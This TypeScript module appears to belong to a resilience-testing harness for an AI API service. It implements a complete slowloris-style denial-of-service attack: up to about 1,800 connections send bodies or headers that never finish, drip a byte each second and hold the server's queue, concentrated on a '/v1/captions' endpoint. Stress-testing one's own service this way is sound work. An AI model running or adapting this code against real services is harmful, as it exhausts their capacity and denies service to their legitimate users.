import type { Socket } from 'node:net'
import { type Attack, aborted, scaled, tally } from './attack.ts'
import { formType } from './client.ts'
import { connectionsAllowed, openRequest, type RawRequest } from './sockets.ts'

/** A request whose rest never comes, or comes a byte at a time. */
export interface SlowRequest extends Omit<RawRequest, 'url' | 'apiKey'> {
  /** Sent at once. */
  start?: string
  /** Sent every second. */
  drip?: string
}

const formStart =
  '--a-boundary-of-an-attack\r\ncontent-disposition: form-data; name="file"; filename="f"\r\n\r\n'
const routes = [
  { path: '/v1/captions', type: 'image/jpeg', start: '\xff\xd8\xff' },
  { path: '/v1/captions', type: 'application/json', start: '{"image_url":"' },
  { path: '/v1/chat/completions', type: 'application/json', start: '{"messages":[' },
  { path: '/v1/batches', type: 'application/json', start: '{' },
  { path: '/v1/uploads', type: 'application/json', start: '{' },
  { path: '/v1/files', type: formType, start: formStart },
  { path: '/v1/uploads/upload_none/parts', type: formType, start: formStart },
  { path: '/v1/uploads/upload_none/complete', type: 'application/json', start: '{' },
  { path: '/internal/replies/cap_none', type: 'application/json', start: '{' },
]

/** Every way to be slow, at every route with a body. */
export const slowRequests: readonly SlowRequest[] = [
  ...routes.flatMap(({ path, type, start }): SlowRequest[] => {
    const announced = { 'content-type': type, 'content-length': 1_000_000 }
    const chunked = { 'content-type': type, 'transfer-encoding': 'chunked' }
    return [
      { path, headers: announced },
      { path, headers: announced, start, drip: 'A' },
      { path, headers: chunked },
      { path, headers: chunked, start: chunk(start), drip: chunk('A') },
      { path, headers: { ...announced, expect: '100-continue' } },
    ]
  }),
  { method: 'GET', path: '/v1/models', endHeaders: false },
  { method: 'GET', path: '/v1/models', endHeaders: false, drip: 'x-a: b\r\n' },
  { method: 'GET', path: '/v1/models', headers: { 'content-length': 100 }, drip: 'A' },
  { path: '/v1/captions', headers: { 'transfer-encoding': 'chunked' }, start: '1', drip: '0' },
  { path: '/v1/captions', headers: { 'transfer-encoding': 'chunked' }, start: '5;', drip: 'a=b;' },
]

function chunk(text: string): string {
  return `${text.length.toString(16)}\r\n${text}\r\n`
}

/** More than the queue has places. */
const connections = 1800
/** Of them at captions, where a place in the queue is. */
const atCaptions = 2 / 3

/** Requests that begin and never end, on more connections than the queue has places. */
export const slowBodies: Attack = {
  title: 'bodies and headers that never arrive',
  async run(target) {
    const { outcomes, count } = tally()
    const total = connectionsAllowed(scaled(connections, target))
    const captions = slowRequests.filter(({ path }) => path === '/v1/captions')
    const open: { socket: Socket; slow: SlowRequest }[] = []
    for (let i = 0; i < total && !target.signal.aborted; i++) {
      const slow =
        i < total * atCaptions ? captions[i % captions.length]! : slowRequests[i % slowRequests.length]!
      const socket = openRequest({ ...target, ...slow })
      if (slow.start) socket.write(slow.start, 'latin1')
      let answered = ''
      socket.once('data', (data) => {
        answered = /^HTTP\/1\.1 (\d+)/.exec(data.toString('latin1'))?.[1] ?? 'odd'
        // Asked to go on: it does not.
        if (answered === '100') answered = ''
      })
      socket.once('close', () => count(answered ? `answered ${answered}` : 'closed'))
      socket.resume()
      open.push({ socket, slow })
    }
    const dripping = setInterval(() => {
      for (const { socket, slow } of open) if (slow.drip && socket.writable) socket.write(slow.drip, 'latin1')
    }, 1000)
    await aborted(target.signal)
    clearInterval(dripping)
    for (const { socket } of open) {
      if (socket.closed) continue
      socket.removeAllListeners('close')
      socket.destroy()
      count('held')
    }
    return outcomes
  },
}
